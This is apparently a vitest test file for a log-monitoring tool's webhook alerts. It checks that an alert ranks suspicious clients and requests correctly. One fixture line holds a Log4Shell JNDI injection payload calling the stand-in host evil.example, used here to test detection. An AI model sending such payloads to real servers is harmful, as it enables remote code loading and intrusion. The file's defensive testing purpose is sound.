// WatchAlerts in process, against a local webhook: what a batch's alert lists, and in which order.
import { afterEach, describe, expect, it } from 'vitest';
import type { AlertPayload } from '../../src/alert/alert-payload.js';
import { WatchAlerts, type AlertReport } from '../../src/watch/watch-alerts.js';
import { ipFinding, lineFinding } from '../alert/analysis.js';
import { startRecordingServer, type RecordingServer } from '../helpers/recording-server.js';

const SUMMARY: AlertPayload['semlog']['summary'] = { records: 40, malformed: 0, files: 1, format: 'combined', clientIps: 9, damagedFiles: 0, elapsedMs: 0 };

let server: RecordingServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

describe('WatchAlerts', () => {
  it("lists a batch's findings as scan's report ranks them: attackers first, clients and requests in turn", async () => {
    server = await startRecordingServer();
    const reports: AlertReport[] = [];
    const alerts = new WatchAlerts({ targets: { webhookUrl: `${server.url}/hooks/secret` }, failOn: 5, cooldownMs: 60_000, now: () => 0 }, ['access.log'], (r) => reports.push(r));
    // A busy harmless client outscores the attacker; lines come in log order.
    const ips = [ipFinding('192.0.2.7', 21.5), ipFinding('203.0.113.9', 12, { log4shell: 1 }, ['hostile'])];
    const lines = [
      lineFinding('GET /blog/?utm_source=feedburner', 6.5, [], { ip: '192.0.2.8', line: 1 }),
      lineFinding('GET /?x=${jndi:ldap://evil.example/a}', 5.2, ['log4shell'], { ip: '203.0.113.9', line: 2 }),
    ];
    alerts.offer(lines, ips, SUMMARY);
    await alerts.close(SUMMARY);
    expect(reports).toEqual([{ targets: [`webhook ${server.url}`], findings: 4, suppressed: 0, errors: [] }]);
    const { semlog, text } = JSON.parse(server.requests[0]!.body) as AlertPayload;
    expect(semlog.reached).toEqual({ ips: 2, lines: 2 });
    expect(semlog.topFindings.map((f) => (f.kind === 'ip' ? f.ip : `line ${f.line}`))).toEqual(['203.0.113.9', 'line 2', '192.0.2.7', 'line 1']);
    expect(text.split('\n').slice(1, 3)).toEqual([
      '• client `203.0.113.9` scored 12.0: 40 requests, log4shell ×1',
      '• request `GET /?x=${jndi:ldap://evil.example/a}` from `203.0.113.9` scored 5.2 (log4shell)',
    ]);
  });
});
